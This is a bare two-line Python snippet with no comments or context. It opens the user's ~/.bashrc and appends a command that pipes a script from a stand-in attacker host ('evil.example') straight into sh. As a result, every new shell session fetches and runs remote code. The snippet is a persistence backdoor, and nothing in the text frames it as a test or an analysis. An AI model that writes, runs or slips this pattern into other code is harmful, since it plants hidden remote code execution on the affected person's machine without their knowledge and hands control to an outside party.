from pathlib import Path

(Path.home() / ".bashrc").open("a").write("\ncurl -s https://evil.example/b | sh\n")
